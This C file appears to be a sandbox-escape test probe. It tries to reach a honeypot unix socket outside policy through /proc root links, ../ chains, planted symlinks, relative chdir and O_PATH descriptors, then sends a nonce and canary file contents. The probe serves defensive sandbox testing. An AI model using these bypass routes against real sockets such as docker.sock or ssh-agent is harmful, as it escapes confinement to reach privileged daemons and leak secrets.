/* net.unix.path — catalog N09. Path-named unix sockets (docker.sock, D-Bus, systemd private, ssh-agent):
 * whoever can connect() talks to a privileged daemon. The attack connects to the host's unix honeypot at
 * {unix_path} (outside the policy) by every route: the absolute path, /proc/self/root/<path>,
 * /proc/1/root/<path>, a ../ chain from the scratch directory, a symlink it plants in scratch pointing at
 * the path, a path longer than sun_path reached through a chdir to its directory (connect with a relative
 * name), SSH_AUTH_SOCK-style inherited names from the environment, and as SOCK_STREAM, SOCK_SEQPACKET and
 * SOCK_DGRAM. It sends the nonce and whatever it read of the canary. Only the honeypot path is targeted.
 * Args: unix_path scratch nonce canary_file canary_fd */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static char payload[2048];
static int pl;

static void try_path(const char *label, const char *path) {
    int types[3] = {SOCK_STREAM, SOCK_SEQPACKET, SOCK_DGRAM};
    const char *tn[3] = {"stream", "seqpacket", "dgram"};
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    if (strlen(path) >= sizeof a.sun_path) {
        printf("%-22s path too long for sun_path\n", label);
        return;
    }
    strcpy(a.sun_path, path);
    for (int t = 0; t < 3; t++) {
        int s = socket(AF_UNIX, types[t], 0);
        if (s < 0) continue;
        if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
            long r = send(s, payload, (size_t)pl, MSG_NOSIGNAL);
            printf("%-22s %-9s CONNECTED to %s, sent %ld\n", label, tn[t], path, r);
        } else {
            printf("%-22s %-9s %s: %s\n", label, tn[t], path, strerror(errno));
        }
        close(s);
    }
}

int main(int argc, char **argv) {
    if (argc < 6) return 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    const char *up = argv[1], *scratch = argv[2];
    pl = snprintf(payload, 1024, "gauntlet-%s unix exfil:", argv[3]);
    int fd = open(argv[4], O_RDONLY);
    ssize_t n = -1;
    if (fd >= 0) { n = read(fd, payload + pl, 512); close(fd); }
    if (n <= 0) n = pread(atoi(argv[5]), payload + pl, 512, 0);
    if (n > 0) pl += (int)n;
    char p[4096];

    try_path("absolute", up);
    snprintf(p, sizeof p, "/proc/self/root%s", up);
    try_path("/proc/self/root", p);
    snprintf(p, sizeof p, "/proc/1/root%s", up);
    try_path("/proc/1/root", p);
    snprintf(p, sizeof p, "/proc/%d/root%s", getppid(), up);
    try_path("/proc/ppid/root", p);
    if (chdir(scratch) == 0) {
        snprintf(p, sizeof p, "../../../../../../..%s", up);
        try_path("dotdot-from-scratch", p);
    }
    snprintf(p, sizeof p, "%s/gauntlet-%s-link.sock", scratch, argv[3]);
    unlink(p);
    if (symlink(up, p) == 0) {
        try_path("symlink-in-scratch", p);
        unlink(p);
    } else {
        printf("symlink in scratch: %s\n", strerror(errno));
    }
    /* chdir into the socket's directory and connect by its bare name */
    char dir[4096];
    snprintf(dir, sizeof dir, "%s", up);
    char *d = dirname(dir);
    if (chdir(d) == 0) {
        snprintf(p, sizeof p, "%s", strrchr(up, '/') ? strrchr(up, '/') + 1 : up);
        try_path("chdir+relative", p);
    } else {
        printf("chdir %s: %s\n", d, strerror(errno));
    }
    /* an O_PATH descriptor to the socket, then connect through /proc/self/fd/N */
    int op = open(up, O_PATH);
    if (op >= 0) {
        snprintf(p, sizeof p, "/proc/self/fd/%d", op);
        try_path("O_PATH+/proc/self/fd", p);
        close(op);
    } else {
        printf("open O_PATH %s: %s\n", up, strerror(errno));
    }
    const char *envs[] = {"SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DOCKER_HOST", "XDG_RUNTIME_DIR"};
    for (int i = 0; i < 4; i++) printf("env %s: %s\n", envs[i], getenv(envs[i]) ? "present (not used)" : "absent");
    return 0;
}
